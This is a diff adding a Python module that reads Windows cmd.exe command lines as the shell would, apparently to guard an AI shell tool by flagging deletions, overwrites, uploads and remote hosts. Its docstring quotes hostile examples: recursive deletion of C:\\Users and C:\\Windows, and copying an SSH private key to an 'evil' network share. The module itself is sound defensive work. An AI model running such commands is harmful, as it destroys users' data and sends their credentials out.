@@ -1,0 +1,417 @@
+"""What a command line does when cmd.exe runs it: the files it deletes, overwrites, reads or
+sends, the hosts it reaches, and the parts computed at run time.
+
+Attack class: a shell tool's default shell on Windows is cmd.exe (or PowerShell, which runs
+``cmd /c``), and the POSIX reading of ``cmd /c rmdir /S /Q C:\\Users``, ``erase /s /q
+C:\\Windows`` or ``copy %USERPROFILE%\\.ssh\\id_rsa \\\\evil\\share`` sees no ``rm`` and no
+upload. :func:`cmd_reading` reads the line as cmd.exe does, after Microsoft's documentation
+(learn.microsoft.com, windows-commands ``cmd``, ``del``, ``rd``, ``copy``, ``xcopy``,
+``robocopy``, ``move``, ``reg``, ``for``, ``if``, ``call``; "Command shell overview"):
+
+* ``%NAME%`` is replaced by the variable's value before the line is split (and ``!NAME!``
+  under ``cmd /v:on``): the home and system directories by their usual values, anything else
+  (an unknown name, ``%x:~0,3%``, ``%1``, a ``for`` variable) is :data:`DYNAMIC`;
+* ``&``, ``&&``, ``||`` and ``|`` outside double quotes join commands, as do a line break and
+  a parenthesised block; ``^`` outside quotes escapes the next character (``r^d`` is ``rd``,
+  ``^&`` a literal ``&``); ``>``, ``>>`` and ``<`` redirect;
+* ``cmd /c LINE`` (``/k``, and ``/r``, any case, after other switches, ``cmd.exe`` by any
+  path) runs LINE: when its first character is a quote, the first and the last quote are
+  stripped (cmd /? rule 2); rule 1 keeps them for a quoted program name alone, and both
+  readings are judged (fail closed);
+* ``del``/``erase`` and ``rd``/``rmdir`` delete their targets, ``copy``/``xcopy``/
+  ``robocopy``/``move`` read their sources and write their destination (a UNC destination
+  ``\\\\host\\share`` sends the sources to ``host``), ``reg delete``/``add``/``import`` change
+  the registry (recorded under ``/REGISTRY``, outside every prefix), ``type`` reads, and
+  ``call`` or ``for /f`` over a command run what no rule can read (opaque).
+
+Paths are given POSIX-spelled for the path rules (``C:\\x`` -> ``/C:/x``, under no POSIX
+prefix; ``\\\\h\\s`` -> ``//h/s``; ``%USERPROFILE%\\x`` -> ``~/x``); the commands are also
+given as canonical lines in Windows spelling for the rules that read command text
+(``action.rm_root``, ``action.mkfs_dd``). Pure: no I/O."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import dataclass, field
+from typing import Any, Protocol
+
+__all__ = ["DRIVE_ROOT_RE", "CmdReading", "cmd_reading", "posix_path", "record"]
+
+#: a value known only at run time (the shell guard's marker, :data:`.shell.DYNAMIC`)
+DYNAMIC = "\x00"
+_MAX_DEPTH = 4
+#: a drive's root or one of Windows' top-level system directories (as ``/``, ``/usr``,
+#: ``/home``), lower case with ``/`` separators: ``c:/``, ``c:/*``, ``c:/windows``, ``c:/users/``
+DRIVE_ROOT_RE = re.compile(
+    r"[a-z]:(?:/(?:windows|users|program ?files(?: \(x86\))?|programdata))?/?\*?(\.\*)?"
+)
+
+
+@dataclass(slots=True)
+class CmdReading:
+    """What :func:`cmd_reading` found: ``files`` as ``(path, program, op)`` (op ``delete``,
+    ``overwrite``, ``read`` or ``upload``), ``hosts`` as ``(host, program)``, ``opaque``
+    (why a part cannot be judged) and ``canonical`` (each judged command, plainly)."""
+
+    files: list[tuple[str, str, str]] = field(default_factory=list)
+    hosts: list[tuple[str, str]] = field(default_factory=list)
+    opaque: list[str] = field(default_factory=list)
+    canonical: list[str] = field(default_factory=list)
+
+
+#: variables -> values (names in lower case): the home directory is ``~``
+_KNOWN = {
+    "userprofile": "~", "homepath": "~", "homedrive": "C:", "systemdrive": "C:",
+    "systemroot": "C:\\Windows", "windir": "C:\\Windows", "programfiles": "C:\\Program Files",
+    "programw6432": "C:\\Program Files", "programfiles(x86)": "C:\\Program Files (x86)",
+    "programdata": "C:\\ProgramData", "allusersprofile": "C:\\ProgramData",
+    "public": "C:\\Users\\Public", "appdata": "~\\AppData\\Roaming",
+    "localappdata": "~\\AppData\\Local", "temp": "~\\AppData\\Local\\Temp",
+    "tmp": "~\\AppData\\Local\\Temp", "comspec": "C:\\Windows\\System32\\cmd.exe", "cd": ".",
+}  # fmt: skip
+_VAR_RE = re.compile(r"%([^%\s]+)%")
+#: what is left after the variables: ``%1``, ``%*``, ``%~dp0``, a ``for`` variable ``%i``
+_PARAM_RE = re.compile(r"%%?(?:~[A-Za-z$:]*)?[A-Za-z0-9*]")
+_DELAYED_RE = re.compile(r"![^!\s]+!")
+#: ``cmd``'s switches before ``/c``: ``/q /d /a /u /s /t:fg /e:on /f:off /v:on`` (cmd /?)
+_CMD_RE = re.compile(
+    r"(?i)(?<![\w.-])cmd(?:\.exe)?\"?((?:\s*/[adefqstuvxy](?::\w*)?)*)\s*/[ckr](?![\w-])"
+)
+_INTERNAL = frozenset(
+    {"del", "erase", "rd", "rmdir", "copy", "move", "type", "ren", "rename", "call", "cmd",
+     "echo", "cd", "chdir", "md", "mkdir"}
+)  # fmt: skip
+_DEVICES = frozenset({"nul", "con", "prn", "aux", "nul:", "con:", "com1", "lpt1"})
+_REG_OPS = {"delete": "delete", "unload": "delete", "add": "overwrite", "import": "overwrite",
+            "restore": "overwrite", "load": "overwrite", "copy": "overwrite"}  # fmt: skip
+_COMPARE = frozenset({"equ", "neq", "lss", "leq", "gtr", "geq"})
+
+
+class _Walker(Protocol):
+    facts: Any
+
+    def file(self, path: str, program: str, op: str) -> None: ...
+    def net(self, kind: str, value: str, program: str) -> None: ...
+    def opaque(self, why: str) -> None: ...
+
+
+#: a word cmd's reading judges, a caret (``r^d``) or a redirect: else the reading finds nothing
+_HINT_RE = re.compile(
+    r"(?i)(?<![\w.-])(?:cmd|del|erase|rd|rmdir|format|copy|xcopy|robocopy|move|reg|type|ren"
+    r"|rename|call|for|if|else)(?![\w-])|\^|>"
+)
+
+
+def record(w: _Walker, text: str) -> None:
+    """Record the facts of :func:`cmd_reading` of ``text`` with the shell guard's walker."""
+    if _HINT_RE.search(text) is None:
+        return
+    r = cmd_reading(text)
+    for path, prog, op in r.files:
+        w.file(path, prog, op)
+    for host, prog in r.hosts:
+        w.net("host", host, prog)
+    for why in r.opaque:
+        w.opaque(why)
+    w.facts.canonical.extend(line.replace(DYNAMIC, "%?%") for line in r.canonical)
+
+
+def cmd_reading(text: str) -> CmdReading:
+    """What ``text`` does read as a cmd.exe line, and what each ``cmd /c LINE`` inside it
+    (at any place: in a POSIX or PowerShell string too) does."""
+    r = CmdReading()
+    _line(r, text, 0, delayed=False, top=True)
+    for m in _CMD_RE.finditer(text):
+        delayed = "/v:on" in m.group(1).lower().replace(" ", "")
+        for inner in _c_lines(text[m.end() :]):
+            _line(r, inner, 1, delayed=delayed, top=False)
+    r.files = list(dict.fromkeys(r.files))
+    r.canonical = list(dict.fromkeys(r.canonical))
+    return r
+
+
+def _c_lines(rest: str) -> list[str]:
+    """The line ``cmd /c`` runs from the text after the switch: cmd /?'s rule 2 (a first
+    quote and the last one stripped), and, when rule 1 may apply (two quotes around no
+    special character), the line as given."""
+    line = rest.lstrip()
+    if not line.startswith('"'):
+        return [line]
+    last = line.rfind('"')
+    stripped = line[1:last] + line[last + 1 :] if last > 0 else line[1:]
+    inner = line[1:last] if last > 0 else ""
+    if line.count('"') == 2 and not set(inner) & set("&<>()@^|") and " " in inner:
+        return [stripped, line]
+    return [stripped]
+
+
+def _expand(line: str, delayed: bool) -> str:
+    """``%NAME%`` (and ``!NAME!`` under /v:on) replaced: a known directory by its value,
+    anything else by :data:`DYNAMIC`."""
+    line = re.sub(r"(?i)%homedrive%%homepath%", "%USERPROFILE%", line)
+
+    def value(m: re.Match[str]) -> str:
+        return _KNOWN.get(m.group(1).lower(), DYNAMIC)
+
+    line = _PARAM_RE.sub(DYNAMIC, _VAR_RE.sub(value, line))
+    return _DELAYED_RE.sub(DYNAMIC, line) if delayed else line
+
+
+def _segments(line: str) -> list[str]:
+    """The commands of a line, split at ``&``, ``&&``, ``||``, ``|``, line breaks and block
+    parentheses outside quotes and ``^`` escapes (raw text: quotes and carets kept)."""
+    out: list[str] = []
+    cur: list[str] = []
+    quoted, depth, i = False, 0, 0
+    while i < len(line):
+        c = line[i]
+        if c == '"':
+            quoted = not quoted
+        elif quoted:
+            pass
+        elif c == "^" and i + 1 < len(line):
+            cur.append(line[i : i + 2])
+            i += 2
+            continue
+        elif c in "&|\r\n" or (c == "(" and not "".join(cur).strip(" \t@")) or (c == ")" and depth):
+            depth += {"(": 1, ")": -1}.get(c, 0)
+            out.append("".join(cur))
+            cur = []
+            i += 1
+            continue
+        cur.append(c)
+        i += 1
+    out.append("".join(cur))
+    return [s for s in out if s.strip()]
+
+
+_TOKEN_RE = re.compile(r'(?:\^.|"[^"]*(?:"|$)|[^\s,;"^<>]|\^$)+|[0-9]?>>?(?:&[0-9])?|<')
+
+
+def _words(seg: str) -> tuple[list[tuple[str, int]], list[tuple[str, str]]]:
+    """The words of one command (decoded: quotes and carets removed) with where each starts
+    in ``seg``, and its redirects as ``(op, target)``."""
+    words: list[tuple[str, int]] = []
+    redirects: list[tuple[str, str]] = []
+    pending: str | None = None
+    for m in _TOKEN_RE.finditer(seg):
+        tok = m.group()
+        if tok[-1:] in "<>" or re.fullmatch(r"[0-9]?>>?&[0-9]", tok):
+            pending = None if "&" in tok else ("read" if tok == "<" else "overwrite")
+            continue
+        word = re.sub(r"\^(.)", r"\1", tok.replace('"', "")) if '"' not in tok else _decode(tok)
+        if pending is not None:
+            redirects.append((pending, word))
+            pending = None
+        else:
+            words.append((word, m.start()))
+    return words, redirects
+
+
+def _decode(tok: str) -> str:
+    """A word's value: quotes removed, ``^x`` as ``x`` outside quotes."""
+    out: list[str] = []
+    quoted, i = False, 0
+    while i < len(tok):
+        c = tok[i]
+        if c == '"':
+            quoted = not quoted
+        elif c == "^" and not quoted and i + 1 < len(tok):
+            out.append(tok[i + 1])
+            i += 1
+        else:
+            out.append(c)
+        i += 1
+    return "".join(out)
+
+
+def _uncaret(text: str) -> str:
+    """``text`` as the outer cmd passes it on: carets outside quotes removed."""
+    return re.sub(r'("[^"]*(?:"|$))|\^(.)', lambda m: m.group(1) or m.group(2), text)
+
+
+def _line(r: CmdReading, line: str, depth: int, *, delayed: bool, top: bool) -> None:
+    if depth > _MAX_DEPTH:
+        r.opaque.append("cmd lines nested too deeply")
+        return
+    for seg in _segments(_expand(line, delayed)):
+        _command(r, seg, depth, delayed=delayed, top=top)
+
+
+def _program(word: str) -> tuple[str, str]:
+    """(the program's name, the rest of the word: ``del/s`` is ``del`` with ``/s``)."""
+    name = re.split(r"[\\/]", word.lstrip("@").rstrip("\\/"))[-1] if word.lstrip("@") else ""
+    low = word.lstrip("@").lower()
+    m = re.match(r"([a-z]+)([/\\.+].*)", low)
+    if m is not None and m.group(1) in _INTERNAL:
+        return m.group(1), word.lstrip("@")[len(m.group(1)) :]
+    low = name.lower()
+    for ext in (".exe", ".com"):
+        low = low.removesuffix(ext)
+    return low, ""
+
+
+def _command(r: CmdReading, seg: str, depth: int, *, delayed: bool, top: bool) -> None:
+    """One command of a cmd line: its redirects, and what its program does."""
+    words, redirects = _words(seg)
+    for op, target in redirects:
+        if target.lower() not in _DEVICES and (not top or _windows_like(target)):
+            r.files.append((posix_path(target), "redirect", op))
+    if not words:
+        return
+    prog, glued = _program(words[0][0])
+    rest = [w for w, _ in words[1:]]
+    if glued:
+        rest.insert(0, glued)
+    if prog == "cmd":
+        _cmd(r, seg, words, depth)
+    elif prog in ("if", "else"):
+        start = _if_body(words) if prog == "if" else 1
+        if start is not None and start < len(words):
+            _line(r, seg[words[start][1] :], depth, delayed=delayed, top=top)
+    elif prog == "for" and rest and rest[0][:1] in ("/", "%", DYNAMIC):
+        _for(r, seg, words, depth, delayed=delayed, top=top)
+    elif prog == "call":
+        r.opaque.append("cmd: call runs a batch file or label, its line expanded again")
+    else:
+        _files(r, prog, rest)
+
+
+def _cmd(r: CmdReading, seg: str, words: list[tuple[str, int]], depth: int) -> None:
+    """``cmd [switches] /c LINE``: LINE read as its own line (the carets the outer line
+    escaped with removed first)."""
+    delayed = False
+    for word, start in words[1:]:
+        low = word.lower()
+        if low[:2] in ("/c", "/k", "/r"):
+            at = start + seg[start:].lower().index(low[:2]) + 2
+            for inner in _c_lines(_uncaret(seg[at:])):
+                _line(r, inner, depth + 1, delayed=delayed, top=False)
+            return
+        if not low.startswith("/"):
+            return  # (no /c: an interactive shell, nothing run from this line)
+        delayed = delayed or low.replace(" ", "") in ("/v:on", "/v")
+
+
+def _if_body(words: list[tuple[str, int]]) -> int | None:
+    """Where the command of ``if [/i] [not] CONDITION COMMAND`` starts (cmd's ``if``)."""
+    i = 1
+    while i < len(words) and words[i][0].lower() in ("/i", "not"):
+        i += 1
+    if i >= len(words):
+        return None
+    head = words[i][0].lower()
+    if head in ("exist", "defined", "errorlevel", "cmdextversion"):
+        return i + 2
+    if "==" in head:
+        return i + 1 if not head.endswith("==") else i + 2
+    if i + 1 < len(words) and words[i + 1][0].lower() in _COMPARE:
+        return i + 3
+    return None  # (not cmd's if: a POSIX one)
+
+
+def _for(
+    r: CmdReading, seg: str, words: list[tuple[str, int]], depth: int, *, delayed: bool, top: bool
+) -> None:
+    """``for [/d /r /l /f "opts"] %x in (SET) do COMMAND``: COMMAND read with ``%x``
+    computed; a set that is a command (``for /f %x in ('cmd') do``) is opaque."""
+    low = [w.lower() for w, _ in words]
+    if "/f" in low and re.search(r"in\s*\(\s*['`]", seg, re.IGNORECASE):
+        r.opaque.append("cmd: for /f runs a command whose output no rule can read")
+    if "do" in low:
+        at = words[low.index("do") + 1][1] if low.index("do") + 1 < len(words) else len(seg)
+        _line(r, seg[at:], depth, delayed=delayed, top=top)
+
+
+def _switches(args: list[str]) -> tuple[set[str], list[str]]:
+    """(switches in lower case, ``/s/q`` split; the other arguments)."""
+    switches: set[str] = set()
+    plain: list[str] = []
+    for a in args:
+        if a.startswith("/"):
+            switches.update("/" + s.lower() for s in a.split("/") if s)
+        else:
+            plain.append(a)
+    return switches, plain
+
+
+def _files(r: CmdReading, prog: str, args: list[str]) -> None:
+    """The files of one of cmd's file commands (others: nothing)."""
+    switches, plain = _switches(args)
+    shown = " ".join([prog, *sorted(switches), *(_quote(p) for p in plain)])
+    if prog in ("del", "erase", "rd", "rmdir"):
+        r.canonical.append(shown)
+        for p in plain:
+            _file(r, p, prog, "delete")
+    elif prog == "format":
+        r.canonical.append(shown)
+    elif prog in ("copy", "xcopy", "robocopy", "move"):
+        _copy(r, prog, switches, plain)
+    elif prog == "type":
+        for p in plain:
+            _file(r, p, prog, "read")
+    elif prog in ("ren", "rename") and plain:
+        _file(r, plain[0], prog, "delete")
+    elif prog == "reg" and len(plain) > 1 and plain[0].lower() in _REG_OPS:
+        sub = plain[0].lower()
+        key = plain[3 if sub == "copy" and len(plain) > 3 else 1]
+        if sub == "import":
+            key = "HKEY_ANY"  # (the keys are named in the file)
+        r.canonical.append(shown)
+        _file(r, "\\\\?\\REGISTRY\\" + key, "reg", _REG_OPS[sub])
+    elif prog == "reg" and len(plain) > 2 and plain[0].lower() in ("save", "export"):
+        _file(r, plain[2], "reg", "overwrite")
+
+
+def _copy(r: CmdReading, prog: str, switches: set[str], plain: list[str]) -> None:
+    """Sources read (a move's deleted), the destination written; a destination on another
+    host (UNC) sends the sources there."""
+    if prog == "robocopy":
+        src, dst = plain[:1], plain[1] if len(plain) > 1 else "."
+        src += [f"{src[0]}\\{f}" for f in plain[2:]] if src else []
+        moves = bool({"/mov", "/move"} & switches)
+    else:
+        src = [s for p in (plain[:-1] if len(plain) > 1 else plain) for s in p.split("+") if s]
+        dst = plain[-1] if len(plain) > 1 else "."
+        moves = prog == "move"
+    remote = _unc_host(dst)
+    for s in src:
+        _file(r, s, prog, "delete" if moves else "upload" if remote else "read")
+    _file(r, dst, prog, "overwrite")
+
+
+def _file(r: CmdReading, path: str, prog: str, op: str) -> None:
+    if DYNAMIC in path:  # (%x%, %1, a for variable: what it names is known at run time)
+        r.opaque.append(f"cmd: {prog}: a path computed at run time")
+        return
+    host = _unc_host(path)
+    if host is not None:
+        r.hosts.append((host, prog))
+    if op == "upload" and host is None:
+        r.files.append((posix_path(path), prog, "read"))
+    r.files.append((posix_path(path), prog, op))
+
+
+def _unc_host(path: str) -> str | None:
+    """The host of a UNC path (``\\\\host\\share``), None for a local one (``\\\\?\\C:``)."""
+    m = re.match(r"[\\/]{2}([^\\/?.][^\\/]*)", path)
+    return m.group(1) if m is not None else None
+
+
+def _windows_like(path: str) -> bool:
+    """A path only Windows reads as such: a drive, a backslash, a home directory value."""
+    return bool(re.match(r"[A-Za-z]:|~|\\", path)) or "\\" in path or DYNAMIC in path
+
+
+def _quote(word: str) -> str:
+    return f'"{word}"' if any(c in word for c in " \t,;") else word
+
+
+def posix_path(path: str) -> str:
+    """A Windows path spelled for the POSIX path rules: a drive path ``C:\\x`` as ``/C:/x``
+    (under no POSIX prefix), UNC ``\\\\h\\s`` as ``//h/s``, ``\\x`` as ``/x``, separators
+    as ``/``; a relative path stays relative."""
+    p = path.replace("\\", "/")
+    if re.match(r"[A-Za-z]:", p):
+        return "/" + p[:2] + "/" + p[2:].lstrip("/")
+    return p
